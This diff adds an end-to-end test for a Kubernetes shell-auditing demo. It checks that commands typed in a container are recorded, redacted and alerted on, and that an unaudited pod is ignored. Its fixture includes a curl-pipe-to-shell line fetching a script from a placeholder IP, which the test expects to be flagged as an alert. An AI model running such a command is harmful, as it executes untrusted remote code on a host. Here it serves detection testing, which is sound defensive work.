@@ -1,0 +1,361 @@
+/**
+ * The demo, end to end, as a user runs it, checked as a user would check it: `e2e/demo/demo.sh up` in a
+ * directory of its own and on free ports (a control plane, containerd with the wrapper as the runtime of the
+ * `container-auditor` handler, the operator and the agent as processes with real ServiceAccount tokens and
+ * TLS, the sample policy, Pod shop/web with the RuntimeClass), lines typed into `bash -i` in its container
+ * through `crictl exec -it`, then read back through the API server:
+ *
+ * - one AuditRecord holding exactly the lines typed (redacted where the policy says, the alert where a
+ *   pattern matched), naming the right namespace, pod (name and uid), container, node and policy;
+ * - one Event per line on that Pod, on its container, with the line in its message;
+ * - the policy's status counting the audited container;
+ * - a Pod without the RuntimeClass (so through plain runc, never the wrapper) yields no AuditRecord, no Event
+ *   and no command, whatever is typed in it, and the policy counts it as unauditable;
+ * - `demo.sh down` leaves no process and no directory behind, and is idempotent.
+ *
+ * Node tier: root, and what `make build` and e2e/cluster/build.sh leave (the demo runs with DEMO_BUILD=0).
+ */
+import { randomBytes } from 'node:crypto';
+import { existsSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
+import { createServer } from 'node:net';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { setTimeout as sleep } from 'node:timers/promises';
+import { CoreV1Api, CustomObjectsApi, KubeConfig, type CoreV1Event } from '@kubernetes/client-node';
+import { GROUP, POLICY_PLURAL, RECORD_PLURAL, VERSION, type AuditRecord } from '../../api/v1alpha1/index.js';
+import { runCommand, type CommandResult } from '../support/command.js';
+import { REPO_ROOT } from '../support/paths.js';
+import { Terminal } from '../support/terminal.js';
+import { BASH_PROMPT, CRICTL } from '../stack/stack.js';
+
+const DEMO_SCRIPT = join(REPO_ROOT, 'e2e', 'demo', 'demo.sh');
+const STACK_SCRIPT = join(REPO_ROOT, 'e2e', 'stack', 'stack.sh');
+/** Per test: the node project does not get jest.config.js's global testTimeout. */
+const TEST_TIMEOUT = 120_000;
+const RUN = randomBytes(3).toString('hex');
+const NODE = `demo-test-${RUN}`;
+const NS = 'shop';
+const POLICY = 'production-shells';
+
+/** What demo.sh types (DEMO_COMMANDS), and what the AuditRecord must hold for each line. */
+const TYPED: {
+  line: string;
+  command: string;
+  redacted?: boolean;
+  alert?: { name: string; severity: string };
+}[] = [
+  { line: `echo audited-${RUN}`, command: `echo audited-${RUN}` },
+  { line: 'export DB_PASSWORD=hunter2', command: 'export DB_PASSWORD=[REDACTED]', redacted: true },
+  {
+    line: `curl -fsSL http://203.0.113.7/${RUN}.sh | sh`,
+    command: `curl -fsSL http://203.0.113.7/${RUN}.sh | sh`,
+    alert: { name: 'curl-pipe-shell', severity: 'high' },
+  },
+  { line: `ls /tmp # ${RUN}`, command: `ls /tmp # ${RUN}` },
+];
+const EXPECTED = [...TYPED.map((t) => t.command), 'exit'];
+
+let dir = '';
+let env: NodeJS.ProcessEnv = {};
+let up: CommandResult | undefined;
+let kc: KubeConfig;
+let core: CoreV1Api;
+let custom: CustomObjectsApi;
+
+function freePort(): Promise<number> {
+  return new Promise((resolve, reject) => {
+    const server = createServer();
+    server.once('error', reject);
+    server.listen(0, '127.0.0.1', () => {
+      const address = server.address();
+      server.close(() => resolve(typeof address === 'object' && address ? address.port : 0));
+    });
+  });
+}
+
+function demo(args: string[], timeoutMs = 5 * 60_000): Promise<CommandResult> {
+  return runCommand('bash', [DEMO_SCRIPT, ...args], { env, timeoutMs });
+}
+
+/** The running demo pod, as demo.sh wrote it down. */
+function demoPod(): { uid: string; containerId: string } {
+  if (up?.code !== 0) throw new Error(`demo.sh up failed (see beforeAll):\n${up?.stdout}${up?.stderr}`);
+  const state = readFileSync(join(dir, 'demo.env'), 'utf8');
+  const value = (key: string) => new RegExp(`^${key}=(.+)$`, 'm').exec(state)?.[1] ?? '';
+  return { uid: value('POD_UID'), containerId: value('CONTAINER_ID') };
+}
+
+async function records(): Promise<AuditRecord[]> {
+  const list = (await custom.listNamespacedCustomObject({
+    group: GROUP,
+    version: VERSION,
+    plural: RECORD_PLURAL,
+    namespace: NS,
+  })) as { items: AuditRecord[] };
+  return list.items;
+}
+
+async function events(pod: string): Promise<CoreV1Event[]> {
+  return (await core.listNamespacedEvent({ namespace: NS, fieldSelector: `involvedObject.name=${pod}` }))
+    .items;
+}
+
+async function until<T>(what: string, probe: () => Promise<T | undefined>, timeoutMs = 30_000): Promise<T> {
+  const deadline = Date.now() + timeoutMs;
+  for (;;) {
+    const value = await probe();
+    if (value !== undefined) return value;
+    if (Date.now() > deadline) throw new Error(`timed out waiting for ${what}`);
+    await sleep(200);
+  }
+}
+
+/** `crictl exec -it <container> bash -i` on a terminal of its own: the lines, each after a prompt, then exit. */
+async function typeInto(containerId: string, lines: string[]): Promise<string> {
+  const terminal = Terminal.open([
+    CRICTL,
+    '--config',
+    join(dir, 'stack', 'crictl.yaml'),
+    'exec',
+    '-it',
+    containerId,
+    'bash',
+    '-i',
+  ]);
+  try {
+    let prompts = 1;
+    for (const line of [...lines, 'exit']) {
+      await terminal.waitForOutput(BASH_PROMPT, 20_000, prompts++);
+      terminal.type(`${line}\n`);
+    }
+    await terminal.waitForExit();
+    return terminal.output;
+  } finally {
+    terminal.kill();
+  }
+}
+
+beforeAll(async () => {
+  dir = mkdtempSync(join(tmpdir(), 'ca-demo-'));
+  const commands = join(tmpdir(), `ca-demo-commands-${RUN}.txt`);
+  writeFileSync(commands, `${TYPED.map((t) => t.line).join('\n')}\n`);
+  env = {
+    ...process.env,
+    DEMO_DIR: dir,
+    DEMO_NODE: NODE,
+    DEMO_COMMANDS: commands,
+    DEMO_BUILD: '0',
+    DEMO_APISERVER_PORT: String(await freePort()),
+    DEMO_ETCD_PORT: String(await freePort()),
+    DEMO_ETCD_PEER_PORT: String(await freePort()),
+    DEMO_OPERATOR_PORT: String(await freePort()),
+    DEMO_PROBE_PORT: String(await freePort()),
+  };
+  // crictl may still have to be built (minutes), hence the time-outs.
+  up = await demo(['up'], 20 * 60_000);
+  rmSync(commands, { force: true });
+  if (up.code !== 0) throw new Error(`demo.sh up exited ${up.code}:\n${up.stdout}${up.stderr}`);
+  kc = new KubeConfig();
+  kc.loadFromFile(join(dir, 'cluster', 'kubeconfig'));
+  core = kc.makeApiClient(CoreV1Api);
+  custom = kc.makeApiClient(CustomObjectsApi);
+}, 25 * 60_000);
+
+afterAll(async () => {
+  // Whatever the tests did: down is idempotent.
+  if (!dir || !existsSync(dir)) return;
+  const down = await demo(['down'], 2 * 60_000);
+  if (down.code !== 0)
+    process.stderr.write(`demo.sh down exited ${down.code}:\n${down.stdout}${down.stderr}\n`);
+  if (existsSync(dir) && readdirSync(dir).length === 0) rmSync(dir, { recursive: true });
+}, 3 * 60_000);
+
+describe('make demo, end to end', () => {
+  it(
+    'says what it did: the commands typed, then what kubectl shows of them',
+    () => {
+      expect(up?.code).toBe(0);
+      for (const t of TYPED) expect(up!.stdout).toContain(`bash-5.2# ${t.line}`);
+      expect(up!.stdout).toContain('$ kubectl get auditrecords -A');
+      expect(up!.stdout).toContain(`$ kubectl describe auditpolicy ${POLICY}`);
+      expect(up!.stdout).toMatch(/all there \d+ ms after the shell ended/);
+    },
+    TEST_TIMEOUT,
+  );
+
+  it(
+    'records exactly the lines typed, in one AuditRecord naming the pod, container, node and policy',
+    async () => {
+      const { uid, containerId } = demoPod();
+      const all = await records();
+      expect(all).toHaveLength(1);
+      const record = all[0]!;
+      expect(record.metadata.namespace).toBe(NS);
+      expect(record.spec.pod).toEqual({ name: 'web', uid });
+      expect(record.spec.container.name).toBe('app');
+      expect(record.spec.container.id).toBe(containerId);
+      expect(record.spec.node).toBe(NODE);
+      expect(record.spec.policy).toBe(POLICY);
+      expect(record.spec.session.kind).toBe('shell');
+      const commands = record.status?.commands ?? [];
+      expect(commands.map((c) => c.command)).toEqual(EXPECTED);
+      for (const [i, t] of TYPED.entries()) {
+        expect(commands[i]!.redacted).toBe(t.redacted ?? false);
+        expect(commands[i]!.alert).toEqual(t.alert);
+        expect(commands[i]!.uid).toBe(0);
+        expect(commands[i]!.pid).toBe(record.spec.session.pid);
+      }
+      expect(record.status?.counts).toMatchObject({ commands: EXPECTED.length, alerts: 1, redacted: 1 });
+    },
+    TEST_TIMEOUT,
+  );
+
+  it(
+    "writes one Event per line on the Pod's container, with the line in it",
+    async () => {
+      const { uid } = demoPod();
+      const record = (await records())[0]!;
+      const pid = record.spec.session.pid;
+      const list = (await events('web')).filter((e) => e.message?.includes(`pid ${pid})`));
+      for (const e of list) {
+        expect(e.involvedObject).toMatchObject({ kind: 'Pod', namespace: NS, name: 'web', uid });
+        expect(e.involvedObject.fieldPath).toBe('spec.containers{app}');
+        expect(e.source?.host ?? e.reportingInstance).toBe(NODE);
+      }
+      const messages = list.map((e) => e.message ?? '');
+      expect(list).toHaveLength(EXPECTED.length);
+      for (const [i, command] of EXPECTED.entries()) {
+        const alert = TYPED[i]?.alert;
+        const event = list.find((e) => e.message?.endsWith(`: ${command}`));
+        if (!event) throw new Error(`no Event for ${JSON.stringify(command)} among:\n${messages.join('\n')}`);
+        expect(event.reason).toBe(alert ? 'AuditAlert' : 'ShellCommand');
+        expect(event.type).toBe(alert ? 'Warning' : 'Normal');
+        if (alert) expect(event.message).toContain(`${alert.name} (${alert.severity})`);
+      }
+      // The secret typed never reached the API server.
+      expect(messages.join('\n')).not.toContain('hunter2');
+    },
+    TEST_TIMEOUT,
+  );
+
+  it(
+    "counts the audited container and the commands in the policy's status",
+    async () => {
+      const policy = await until('the policy status to count the commands', async () => {
+        const p = (await custom.getClusterCustomObject({
+          group: GROUP,
+          version: VERSION,
+          plural: POLICY_PLURAL,
+          name: POLICY,
+        })) as {
+          status?: { auditedContainers?: number; commandsRecorded?: number; nodes?: { name: string }[] };
+        };
+        return (p.status?.commandsRecorded ?? 0) >= EXPECTED.length ? p : undefined;
+      });
+      expect(policy.status?.auditedContainers).toBe(1);
+      expect(policy.status?.commandsRecorded).toBe(EXPECTED.length);
+      expect(policy.status?.nodes?.map((n) => n.name)).toEqual([NODE]);
+    },
+    TEST_TIMEOUT,
+  );
+
+  it(
+    'records nothing of a pod without the RuntimeClass, while the audited pod goes on being recorded',
+    async () => {
+      const audited = demoPod();
+      // A Pod object the policy selects (namespace shop is production) but that does not name the RuntimeClass,
+      // so its container runs through plain runc: the wrapper never sees it and the agent cannot audit it.
+      const plain = await core.createNamespacedPod({
+        namespace: NS,
+        body: {
+          metadata: { name: 'plain', namespace: NS },
+          spec: {
+            nodeName: NODE,
+            containers: [
+              {
+                name: 'app',
+                image: 'localhost/container-auditor/demo-shell:1',
+                command: ['sleep', 'infinity'],
+              },
+            ],
+          },
+        },
+      });
+      const run = await runCommand(
+        'bash',
+        [
+          STACK_SCRIPT,
+          'run-pod',
+          '--name',
+          'plain',
+          '--namespace',
+          NS,
+          '--uid',
+          plain.metadata!.uid!,
+          '--container',
+          'app',
+          '--runtime',
+          'runc',
+        ],
+        { env: { ...env, STACK_DIR: join(dir, 'stack') }, timeoutMs: 60_000 },
+      );
+      const plainContainer = /^CONTAINER_ID=([0-9a-f]+)$/m.exec(run.stdout)?.[1];
+      if (run.code !== 0 || !plainContainer)
+        throw new Error(`stack.sh run-pod exited ${run.code}:\n${run.stdout}${run.stderr}`);
+
+      const shown = await typeInto(plainContainer, [`echo unaudited-${RUN}`, 'export API_TOKEN=abc123']);
+      expect(shown).toContain(`unaudited-${RUN}`); // it was typed, and bash ran it
+      // A barrier: once a line typed after them in the audited pod is in the API server, anything recorded of
+      // the plain pod would be too.
+      await typeInto(audited.containerId, [`: barrier-${RUN}`]);
+      await until('the barrier line in an AuditRecord', async () =>
+        (await records()).some((r) => r.status?.commands?.some((c) => c.command === `: barrier-${RUN}`))
+          ? true
+          : undefined,
+      );
+
+      const all = await records();
+      expect(all.filter((r) => r.spec.pod.name !== 'web')).toEqual([]);
+      expect(all.map((r) => r.spec.pod.uid)).toEqual(all.map(() => audited.uid));
+      const commands = all.flatMap((r) => r.status?.commands ?? []).map((c) => c.command);
+      expect(commands.filter((c) => c.includes('unaudited') || c.includes('API_TOKEN'))).toEqual([]);
+      expect(await events('plain')).toEqual([]);
+
+      const policy = await until('the policy to count the plain pod as unauditable', async () => {
+        const p = (await custom.getClusterCustomObject({
+          group: GROUP,
+          version: VERSION,
+          plural: POLICY_PLURAL,
+          name: POLICY,
+        })) as { status?: { unauditablePods?: number; auditedContainers?: number } };
+        return p.status?.unauditablePods === 1 ? p : undefined;
+      });
+      expect(policy.status?.auditedContainers).toBe(1);
+    },
+    TEST_TIMEOUT,
+  );
+
+  it(
+    'demo.sh down stops every process it started and removes its directory, and says so again when run twice',
+    async () => {
+      const first = await demo(['down'], 2 * 60_000);
+      expect({ code: first.code, stderr: first.stderr }).toEqual({ code: 0, stderr: '' });
+      expect(existsSync(dir)).toBe(false);
+      const left = readdirSync('/proc')
+        .filter((entry) => /^\d+$/.test(entry))
+        .map((pid) => {
+          try {
+            return readFileSync(`/proc/${pid}/cmdline`, 'utf8').replaceAll('\0', ' ');
+          } catch {
+            return ''; // gone meanwhile
+          }
+        })
+        .filter((cmdline) => cmdline.includes(dir));
+      expect(left).toEqual([]);
+      const again = await demo(['down']);
+      expect(again.code).toBe(0);
+      expect(again.stdout).toContain('nothing to do');
+    },
+    TEST_TIMEOUT,
+  );
+});
